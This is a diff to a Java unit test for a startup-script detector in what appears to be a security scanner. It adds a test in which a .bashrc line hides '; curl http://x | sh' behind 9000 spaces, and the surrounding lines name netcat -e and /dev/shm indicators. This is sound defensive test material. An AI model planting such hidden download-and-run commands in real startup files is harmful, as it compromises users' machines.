@@ -1,6 +1,7 @@
 package dev.ward.detect.builtin;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.ward.model.Finding;
 import java.nio.file.Path;
@@ -51,6 +52,16 @@ class StartupScriptDetectorTest {
         assertEquals("netcat with -e/-c", f.get(2).evidence().get("indicator"));
         assertEquals("runs /dev/shm/x", f.get(3).evidence().get("indicator"));
         assertEquals(3, f.get(3).evidence().get("line"));
+    }
+
+    @Test
+    void commandPushedFarAlongALineIsStillSeen() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .write("/home/bob/.bashrc", "true" + " ".repeat(9000) + "; curl http://x | sh\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.shell.startup_command /home/bob/.bashrc"), PackagedRoot.brief(f));
+        assertEquals("download piped to a shell", f.getFirst().evidence().get("indicator"));
+        assertTrue(((String) f.getFirst().evidence().get("text")).endsWith("[832 more characters]"));
     }
 
     @Test
